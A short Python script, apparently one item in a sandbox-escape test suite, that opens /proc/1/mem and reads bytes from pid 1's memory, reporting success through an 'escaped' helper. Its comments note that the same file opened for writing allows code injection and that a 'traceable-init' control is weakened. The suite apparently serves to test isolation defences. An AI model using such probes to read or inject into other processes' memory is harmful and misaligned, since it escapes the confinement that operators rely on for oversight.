# Opens /proc/1/mem and reads the agent's memory through it.
# Why it matters: as 403, by another door; opened for writing it is code injection.
# When it works: bytes come out.
# control: weakened: traceable-init
import os

from attempt import escaped, run


def attempt():
    file = os.open("/proc/1/mem", os.O_RDONLY)
    start = int(open("/proc/1/maps").read().split("-")[0], 16)
    data = os.pread(file, 16, start)
    escaped(f"read {len(data)} bytes of pid 1: {data[:8]!r}")


run(attempt)
